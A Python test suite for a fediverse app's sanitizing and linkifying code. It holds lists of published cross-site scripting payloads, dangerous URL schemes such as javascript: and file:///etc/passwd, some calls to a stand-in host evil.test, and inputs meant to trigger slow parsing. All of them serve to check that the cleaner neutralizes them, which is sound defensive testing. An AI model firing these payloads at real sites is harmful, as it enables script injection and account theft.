"""Tests of what is done to written words: made safe, made readable, made into links, in a time that grows with them."""

import re
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from html import unescape
from typing import Any
from urllib.parse import urlsplit

import pytest
from bleach._vendor import html5lib
from hypothesis import example, given, settings
from hypothesis import strategies as st

from fediterr.core import markup, text

LINK = 'rel="nofollow noopener noreferrer" target="_blank"'
MENTIONS = {
    "bob": text.MentionLink("https://brest.test/@bob", "bob"),
    "carol@nantes.test": text.MentionLink("https://nantes.test/@carol", "carol"),
    "alice@127.0.0.1:3000": text.MentionLink("http://127.0.0.1:3000/@alice", "alice"),
}
ATTRIBUTES = {
    "a": {"href", "class", "rel", "target"},
    "span": {"class"},
    "ol": {"start", "reversed"},
    "li": {"value"},
}
# What an attacker tries, in shapes published about many cleaners; `X` is what must not come to life.
ATTACKS = [
    "<script>X()</script>",
    "<SCRIPT/SRC=https://evil.test/x.js></SCRIPT>",
    "<scr<script>ipt>X()</scr</script>ipt>",
    "<scr\x00ipt>X()</scr\x00ipt>",
    "<ſcript>X()</ſcript>",
    "<script>/*<p>*/X()",
    "<img src=x onerror=X()>",
    "<img src=x onerror=X()//",
    "<<img src=x onerror=X()>>",
    "<svg onload=X()>",
    "<svg><script>X()</script></svg>",
    "<svg><style><img src=x onerror=X()></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=X()>'>",
    "<svg><p><style><g title='</style><img src onerror=X()>'>",
    "<svg><a xlink:href='javascript:X()'><text y=20>y</text></a></svg>",
    "<svg><animate attributeName=href values='javascript:X()' /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=X()&gt;'>",
    "<math><annotation-xml encoding='text/html'><p><script>X()</script></p></annotation-xml></math>",
    "<math href='javascript:X()'>y</math>",
    "<noscript><p title='</noscript><img src=x onerror=X()>'>",
    "<noscript><style><p id='</style></noscript><img src=x onerror=X()>'>",
    "<template><script>X()</script></template>",
    "<textarea><p title='</textarea><img src=x onerror=X()>'>",
    "<title><p title='</title><img src=x onerror=X()>'>",
    "<xmp><p title='</xmp><img src=x onerror=X()>'>",
    "<noembed><p title='</noembed><img src=x onerror=X()>'>",
    "<iframe><p title='</iframe><img src=x onerror=X()>'>",
    "<iframe src='javascript:X()' srcdoc='<script>X()</script>'></iframe>",
    "<plaintext><script>X()</script>",
    "<style>@import 'https://evil.test/x.css';</style>",
    "<p style='background:url(javascript:X())'>y</p>",
    "<p onclick=X() ONMOUSEOVER=X() autofocus tabindex=1 id=x name=x>y</p>",
    "<p/onclick=X()/>y",
    "<p title='\"><script>X()</script>'>y</p>",
    '<p title=`"`><img src=x onerror=X()>',
    "<![CDATA[<img src=x onerror=X()>]]>",
    "<svg><![CDATA[</svg><img src=x onerror=X()>]]>",
    "<!--><img src=x onerror=X()>-->",
    "<!---><img src=x onerror=X()>-->",
    "<!-- --!><img src=x onerror=X()> -->",
    "<!--<p title='--><img src=x onerror=X()>'>",
    "<?xml version='1.0'?><img src=x onerror=X()>",
    "<!DOCTYPE html [<!ENTITY x '<script>X()</script>'>]>&x;",
    "</p onclick=X()>",
    "</script><img src=x onerror=X()>",
    "<form action='javascript:X()'><input type=submit formaction='javascript:X()'><button formaction=//evil.test>y",
    "<base href='//evil.test/'><link rel=stylesheet href=//evil.test>",
    "<meta http-equiv=refresh content='0;javascript:X()'>",
    "<embed src='javascript:X()'><object data='data:text/html,<script>X()</script>'></object>",
    "<video autoplay src=x onerror=X()><source onerror=X()></video><audio src onloadstart=X()>",
    "<details open ontoggle=X()><summary>y</summary></details>",
    "<table background='javascript:X()'><a><table><a href='javascript:X()'>y",
    "<select><option><style></option></select><img src=x onerror=X()></style>",
    "<a href='https://ok.test' ping='https://evil.test' onclick=X()>y</a>",
    "<a href='https://ok.test' href='javascript:X()'>y</a>",
    '<a href="https://ok.test/&quot; onclick=&quot;X()">y</a>',
    "<a href='https://ok.test/\"onmouseover=\"X()'>y</a>",
    "<a href=`https://ok.test` onclick=X()>y</a>",
    "<span class='mention evil-class fixed' style='position:fixed'>y</span>",
    "<b><p><i></b></p></i>" * 20 + "<img src=x onerror=X()>",
    "<a><b><a><b><a href='javascript:X()'>" * 12,
    "&lt;script&gt;X()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;X()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;X()&#60;/script&#62;",
    "{{7*7}}{% X %}%(x)s{0.__class__}",
    "<p>\ud800\udfff\ufffe</p><\ud800img src=x onerror=X()>",
    "＜script＞X()＜/script＞",
    "+ADw-script+AD4-X()+ADw-/script+AD4-",
]
BAD_ADDRESSES = [
    "javascript:X()",
    "JaVaScRiPt:X()",
    " javascript:X()",
    "\x01javascript:X()",
    "java\tscript:X()",
    "java\nscript:X()",
    "java\x00script:X()",
    "java&Tab;script:X()",
    "java&NewLine;script:X()",
    "&#106;avascript:X()",
    "&#x6A;avascript&colon;X()",
    "&#0000106avascript:X()",
    "javascript&#58X()",
    "javascript://ok.test/%0aX()",
    "feed:javascript:X()",
    "view-source:javascript:X()",
    "data:text/html,<script>X()</script>",
    "data:text/html;base64,WCgp",
    "vbscript:X()",
    "blob:https://ok.test/1",
    "file:///etc/passwd",
    "//evil.test/",
    "\\\\evil.test\\",
    "/\\evil.test",
    "https:evil.test",
    "https:/evil.test",
    "https:\\\\evil.test",
    "https://",
    "https://[bad/",
    "https://[::::]/",
    "https://ok.test\\@evil.test/",
    "httpſ://evil.test/",
    "\u200bjavascript:X()",
    "https://ok.test/\u202egpj.exe",
    "relative/path",
    "/path",
    "#anchor",
    "?query",
    "",
]


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """Return every element a browser would build, by a parser that knows nothing of the cleaner."""
    tree: Any = html5lib.parseFragment(html, treebuilder="etree", namespaceHTMLElements=False)
    return [(str(node.tag), dict(node.attrib)) for node in tree.iter() if node is not tree]


def assert_harmless(html: str) -> None:
    assert "\x00" not in html
    for tag, attributes in elements(html):
        assert tag in markup.TAGS, html
        assert set(attributes) <= ATTRIBUTES.get(tag, set()), html
        assert set(attributes.get("class", "").split()) <= markup.CLASSES, html
        if tag == "a":
            assert urlsplit(attributes["href"]).scheme.lower() in ("http", "https", "mailto"), html
            assert attributes["href"].startswith("mailto:") or urlsplit(attributes["href"]).netloc, html
            assert {"nofollow", "noopener", "noreferrer"} <= set(attributes["rel"].split()), html
            assert attributes["target"] == "_blank", html


def by_bleach(html: str) -> str:
    """Return what the slow path alone makes of a document, in the spelling of the fast one."""
    return markup.read(text._cleaners.cleaner.clean(html)).html()


tag_names = st.sampled_from([*sorted(markup.TAGS), "div", "table", "td", "svg", "math", "style", "script", "x-y"])
fragments = st.one_of(
    st.builds("<{}>".format, tag_names),
    st.builds("</{}>".format, tag_names),
    st.sampled_from(
        ["<a href='https://ok.test/?a=1&b=2'>", '<a href="https://ok.test/é&lt;x;y" class="mention x" rel=me>']
    ),
    st.sampled_from(
        ['<ol start="3" reversed>', "<li value=-2>", '<span class="invisible">', "<p title='>'>", "<!-- x -->"]
    ),
    st.sampled_from(
        ["&", "&amp;", "&lt;", "&nbsp;", "&#39;", "&copy=", "<", ">", '"', "'", "\n", "\n\n", " ", "\r", "é"]
    ),
    st.text(max_size=5),
)
documents = st.lists(fragments, max_size=25).map("".join)


# --- made safe --------------------------------------------------------------------------------------------------------


def test_what_an_ordinary_post_says_is_kept() -> None:
    said = (
        '<p><span class="h-card"><a href="https://brest.test/@bob" class="u-url mention">@<span>bob</span></a></span>'
        "<br>Merci &amp; à bientôt</p><ul><li>un</li><li><strong>deux</strong></li></ul>"
    )
    assert text.clean(said) == said.replace('mention">', f'mention" {LINK}>')


@pytest.mark.parametrize(
    ("given_html", "kept"),
    [
        ('<a href="https://ok.test" rel="me">x</a>', 'rel="me nofollow noopener noreferrer"'),
        ('<a href="https://ok.test" rel="opener tag">x</a>', 'rel="tag nofollow noopener noreferrer"'),
        ('<a href="mailto:bob@brest.test">x</a>', 'href="mailto:bob@brest.test"'),
        (
            '<a href="https://ok.test/?page=1&section=2&copy=3">x</a>',
            'href="https://ok.test/?page=1&amp;section=2&amp;copy=3"',
        ),
        ("<a href=https://ok.test/a>x</a>", 'href="https://ok.test/a"'),
        ('<a href="https://ok.test/a b\'c">x</a>', 'href="https://ok.test/a%20b%27c"'),
        ('<a href="http://[::1]:8080/">x</a>', 'href="http://[::1]:8080/"'),
        ("<ol start=3 reversed><li value=7>x</li></ol>", '<ol start="3" reversed=""><li value="7">x</li></ol>'),
        ("<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>"),
        ("<dl><dt>a<dd>b</dl>", "<dl><dt>a</dt><dd>b</dd></dl>"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<p>a<p>b", "<p>a</p><p>b</p>"),
        ("<div><p>a</p></div><div>b</div>", "<p>a</p><p>b</p>"),
        ("<b><i>a</b>b</i>", "<b><i>a</i></b><i>b</i>"),
        ("<a href=https://ok.test/><h3>a</h3></a>", "<h3>a</h3></a>"),
        ("1 < 2 && 3 > 2", "1 &lt; 2 &amp;&amp; 3 &gt; 2"),
        ("<pre>\n\na\n  b</pre>", "<pre>a\n  b</pre>"),
        ("a<script>X()</script>b", "ab"),
    ],
)
def test_what_is_allowed_stays_and_is_closed(given_html: str, kept: str) -> None:
    assert kept in text.clean(given_html)


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_comes_to_life(attack: str) -> None:
    for shape in (
        attack,
        f"<p>{attack}</p>",
        f"<b><p>{attack}</b>",
        f"<a href='https://ok.test'>{attack}",
        unescape(attack),
    ):
        cleaned = text.clean(shape)
        assert_harmless(cleaned)
        assert text.clean(cleaned) == cleaned
        assert_harmless(by_bleach(cleaned))
        # Wherever a page puts it, no end of a raw element may be found in it.
        assert not re.search(r"<(?!/?(?:[a-z]+[1-6]?)[ >])", cleaned)


@pytest.mark.parametrize("address", BAD_ADDRESSES)
@pytest.mark.parametrize("quote", ["'", '"', ""])
def test_a_bad_address_leaves_the_text_without_a_link(address: str, quote: str) -> None:
    cleaned = text.clean(f"<p><a class=mention href={quote}{address}{quote}>texte</a></p>")
    assert_harmless(cleaned)
    assert "texte" in cleaned
    if quote:
        assert cleaned == "<p>texte</p>"


@pytest.mark.parametrize(
    "html",
    [
        "<p>&#" + "9" * 5000 + ";</p>",
        "<a href='https://ok.test/&#" + "9" * 5000 + ";'>x</a>",
        "<b>" * 5000 + "texte",
        "<b><p>" * 5000 + "texte",
        "<blockquote>" * 5000 + "texte" + "</blockquote>" * 5000,
        "<a " + "x=1 " * 20_000 + "href=https://ok.test>texte",
        "<!--" * 20_000,
        "<b><i></b></i>" * 5000 + "texte",
        "\x00" * 1000,
        "<" * 70_000,
    ],
)
def test_a_monstrous_post_is_cut_down_and_never_breaks_the_page(html: str) -> None:
    cleaned = text.clean(html)
    assert_harmless(cleaned)
    assert max((depth for depth in nesting(cleaned)), default=0) <= 2 * markup.DEPTH


def nesting(html: str) -> list[int]:
    depths, depth = [], 0
    for slash, name in re.findall(r"<(/?)([a-z0-9]+)", html):
        depth += -1 if slash else name not in ("br", "hr")
        depths.append(depth)
    assert depth == 0, "every tag is closed"
    return depths


def test_what_is_beyond_the_limit_is_cut_between_tags() -> None:
    assert text.clean("<p>" + "a" * 100, limit=50) == "<p>" + "a" * 47 + "</p>"
    assert text.clean("<p>abc <a href='https://ok.test/'>x</a>", limit=20) == "<p>abc </p>"
    assert len(text.plain("é" * 200_000)) == text.LIMIT


def test_a_post_that_makes_the_parser_stumble_comes_back_as_plain_text(monkeypatch: pytest.MonkeyPatch) -> None:
    def stumble(_html: str) -> str:
        raise AssertionError("html5lib")

    monkeypatch.setattr(text._cleaners.cleaner, "clean", stumble)
    assert text.clean("<b><p>un &lt; deux</b><p>trois") == "<p>un &lt; deux</p><p>trois</p>"


def test_untidy_markup_beyond_all_measure_comes_back_as_plain_text() -> None:
    cleaned = text.clean("<b><i>a</b> b</i><br>" * 1000)
    assert cleaned.startswith("<p>a b<br>a b<br>")
    assert "<b>" not in cleaned


def test_threads_do_not_share_a_parser() -> None:
    posts = [f"<b><p>{number}</b><i>x</p>" * 20 for number in range(40)]
    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(text.clean, posts)) == [text.clean(post) for post in posts]


@settings(deadline=None, max_examples=400)
@given(documents)
@example("<b><p>x</b>y</p>")
@example("<pre><pre>\n\n\nx")
@example("<a href='https://ok.test/?a=1&b=2'><p><a href='https://ok.test/?a=1&b=2'>")
def test_cleaning_twice_changes_nothing_and_leaves_no_harm(html: str) -> None:
    once = text.clean(html)
    assert text.clean(once) == once
    assert_harmless(once)


@settings(deadline=None, max_examples=400)
@given(documents)
@example("<p>a</p><ul><li><p>b</p></li></ul><pre>\nc</pre>")
@example("<b><b><b><b>a</b>b</b>c</b>d</b>e<p>f</p>")
@example("<a href='https://ok.test/?a&amp;lt;b&amp;amp;c'>d</a>")
def test_what_skips_the_slow_parser_is_what_it_would_have_said(html: str) -> None:
    document = markup.read(html)
    if document.strict:
        assert by_bleach(document.html()) == document.html()


@settings(deadline=None, max_examples=200)
@given(st.text())
def test_text_goes_through_html_and_back(words: str) -> None:
    shown = markup.readable(words)
    assert unescape(text.clean(markup.escape(words))) == shown


# --- made readable ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "words"),
    [
        ("<p>un</p><p>deux<br>trois</p>", "un\n\ndeux\ntrois"),
        ("<p>a\n   b</p>", "a b"),
        ("<ul><li>un</li><li>deux</li></ul><p>fin</p>", "un\ndeux\n\nfin"),
        (
            "<a href='https://brest.test/page'><span class='invisible'>https://</span><span>brest.test/page</span></a>",
            "https://brest.test/page",
        ),
        ("<pre>un\n  deux</pre>", "un\n  deux"),
        ("1 &lt; 2 &amp; 3", "1 < 2 & 3"),
        ("texte nu", "texte nu"),
        ("", ""),
        ("<p> </p>", ""),
        ("<script>X()</script>vu", "vu"),
    ],
)
def test_html_is_read_as_plain_text(html: str, words: str) -> None:
    assert text.plain(html) == words


def test_an_excerpt_stops_between_words() -> None:
    html = "<p>Éteindre l’éclairage public la nuit</p><p>Trois hivers.</p>"
    assert text.excerpt(html, 200) == "Éteindre l’éclairage public la nuit Trois hivers."
    assert text.excerpt(html, 25) == "Éteindre l’éclairage…"
    assert text.excerpt("<p>" + "a" * 50, 10) == "a" * 9 + "…"
    assert text.excerpt(html, 0) == ""


@settings(deadline=None)
@given(documents, st.integers(0, 50))
def test_an_excerpt_is_never_longer_than_asked(html: str, characters: int) -> None:
    assert len(text.excerpt(html, characters)) <= characters


@pytest.mark.parametrize(
    ("value", "tag"),
    [("fr", "fr"), ("pt-BR", "pt-br"), ("zh_Hant_TW", "zh-hant-tw"), (" br ", "br"), ("oci", "oci")]
    + [(bad, None) for bad in ("", "f", "français", "fr-", "<b>", "und", "x" * 10_000, None, 3, ["fr"], "fr\x00")],
)
def test_only_language_tags_are_languages(value: object, tag: str | None) -> None:
    assert text.language_tag(value) == tag


# --- made into links --------------------------------------------------------------------------------------------------


def composed(words: str) -> str:
    return text.compose(words, mentions=MENTIONS, tag_url=lambda tag: f"https://brest.test/tags/{tag}")


def test_what_was_typed_becomes_paragraphs() -> None:
    assert (
        composed("un\r\ndeux\n\n\n trois <b> & {{7*7}}\n") == "<p>un<br>deux</p><p> trois &lt;b&gt; &amp; {{7*7}}</p>"
    )
    assert composed(" \n\n") == ""


def test_mentions_known_are_linked_and_the_others_stay_text() -> None:
    opening = f'<a href="https://nantes.test/@carol" class="u-url mention" {LINK}>'
    link = f'<span class="h-card">{opening}@<span>carol</span></a></span>'
    assert composed("@Carol@nantes.test, @dave et bob@brest.test") == f"<p>{link}, @dave et bob@brest.test</p>"


def test_hashtags_are_linked_to_their_folded_address() -> None:
    link = (
        '<a href="https://brest.test/tags/ete2024" class="mention hashtag"'
        f" {LINK.replace('nofollow', 'tag nofollow', 1)}>#<span>Été2024</span></a>"
    )
    assert composed("(#Été2024) #2024 a#b") == f"<p>({link}) #2024 a#b</p>"


@pytest.mark.parametrize(
    ("words", "url"),
    [
        ("voir https://ok.test/a.", "https://ok.test/a"),
        ("(voir https://ok.test/a)", "https://ok.test/a"),
        ("https://ok.test/Brest_(ville)", "https://ok.test/Brest_(ville)"),
        ("(https://ok.test/Brest_(ville)).", "https://ok.test/Brest_(ville)"),
        ("« https://ok.test/a »", "https://ok.test/a"),
        ("«https://ok.test/a»", "https://ok.test/a"),
        ("<https://ok.test/a?b=1#c>", "https://ok.test/a?b=1#c"),
        ("HTTPS://ok.test/@bob#tag", "HTTPS://ok.test/@bob#tag"),
        ("https://ok.test/é", "https://ok.test/é"),
    ],
)
def test_addresses_are_linked_without_the_punctuation_around(words: str, url: str) -> None:
    assert f'<a href="{url}" {LINK}>{url}</a>' in composed(words)
    assert text.plain(composed(words)) == words


@pytest.mark.parametrize(
    "words",
    [
        "javascript:X()",
        "ftp://ok.test",
        "https://",
        "xhttps://ok.test",
        "https://" + "a" * 3000,
        "ok.test",
        "httpſ://evil.test",
    ],
)
def test_what_is_no_web_address_stays_text(words: str) -> None:
    assert "<a" not in composed(words)


@pytest.mark.parametrize("attack", [*ATTACKS, *BAD_ADDRESSES])
def test_nothing_typed_comes_to_life(attack: str) -> None:
    for shape in (attack, f"https://ok.test/{attack}", f"#{attack}", f"@bob@{attack}"):
        assert_harmless(composed(shape))


pieces = st.sampled_from(
    ["@bob", "@carol@nantes.test", "#Été", "https://ok.test/(a)?b&lt;c", " ", "\n", "\n\n", "(", ")", ".", "<", "&"]
)


@settings(deadline=None, max_examples=300)
@given(st.lists(st.one_of(pieces, st.text(max_size=4)), max_size=15).map("".join))
def test_what_is_composed_is_already_clean(words: str) -> None:
    assert text.clean(composed(words)) == composed(words)
    assert_harmless(composed(words))


def test_mentions_are_found_once_and_in_order() -> None:
    words = (
        "@bob: .@eve, (@carol@nantes.test) et @Bob @alice@127.0.0.1:3000. @a.b-c@brest.test! "
        "@@no bob@brest.test https://ok.test/@nobody @trop" + "p" * 70 + " @bobé"
    )
    assert text.find_mentions(words) == ["bob", "carol@nantes.test", "alice@127.0.0.1:3000", "a.b-c@brest.test"]


def test_tags_are_found_once_however_spelled() -> None:
    words = (
        "#ÉclairagePublic #eclairagepublic #2024 #_ #l'eau (#a1) &#39; https://ok.test/#non x#non "
        "#日本 #e\u0301te\u0301 ##deux"
    )
    assert text.find_tags(words) == ["ÉclairagePublic", "l", "a1", "日本", "été"]


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("#ÉclairagePublic", "eclairagepublic"),
        ("Cœur", "COEUR"),
        ("Noël", "noel"),
        ("STRASSE", "straße"),
        ("ｆｕｌｌ", "full"),
    ],
)
def test_two_spellings_are_one_tag(one: str, other: str) -> None:
    assert text.fold_tag(one) == text.fold_tag(other)


def test_accents_that_make_another_letter_are_kept() -> None:
    assert text.fold_tag("が") != text.fold_tag("か")
    assert text.fold_tag("й") != text.fold_tag("и")


@given(st.text(max_size=20))
def test_folding_twice_changes_nothing(tag: str) -> None:
    assert text.fold_tag(text.fold_tag(tag)) == text.fold_tag(tag)


# --- in a time that grows with them -----------------------------------------------------------------------------------

HOSTILE = {
    "at signs": "@",
    "dots": "a.",
    "mention of dots": "@a.",
    "mentions": "@a@",
    "dashes": "-@a",
    "hosts": "@a@a-",
    "hashes": "#",
    "accents": "#e\u0301\u0323",
    "addresses": "https://",
    "opening": "https://a.test/(",
    "closing": ")",
    "tags in tags": "<a<a",
    "quotes": "<a \"'",
    "attributes": "<a a ",
    "values": "a='\" ",
    "comments": "<!--",
    "ends": "</a",
    "declarations": "<!",
    "scripts": "<script></script",
    "ampersands": "&",
    "entities": "&#9",
    "bold": "<b>",
    "empty": "<b><p></b>",
    "crossed": "<b><i>a</b></i>",
    "lists": "<ul><li>",
    "spaces": " ",
    "lines": "\n ",
    "breaks": "<br> ",
}
WORK: dict[str, Callable[[str], object]] = {
    "clean": lambda words: text.clean(words, limit=200_000),
    "plain": lambda words: text.plain(words, limit=200_000),
    "compose": composed,
    "find": lambda words: (text.find_tags(words), text.find_mentions(words)),
}


def seconds(work: Callable[[str], object], words: str) -> float:
    start = time.process_time()
    work(words)
    return time.process_time() - start


@pytest.mark.parametrize("work", WORK)
@pytest.mark.parametrize("hostile", HOSTILE)
def test_twice_as_much_hostile_text_takes_about_twice_as_long(work: str, hostile: str) -> None:
    """A quadratic scanner takes four times as long. The first words make the HTML untidy: bleach is asked too."""
    piece = HOSTILE[hostile]
    half, whole = (f"<b><p></b>@a.{piece * (size // len(piece))}" for size in (50_000, 100_000))
    text.clean("<b><p></b>")  # the parser of this thread is built once
    for _attempt in range(5):  # the machine may be busy elsewhere: one quiet moment is proof enough
        if seconds(WORK[work], whole) <= 3 * seconds(WORK[work], half) + 0.005:
            return
    pytest.fail("the time grows faster than the text")
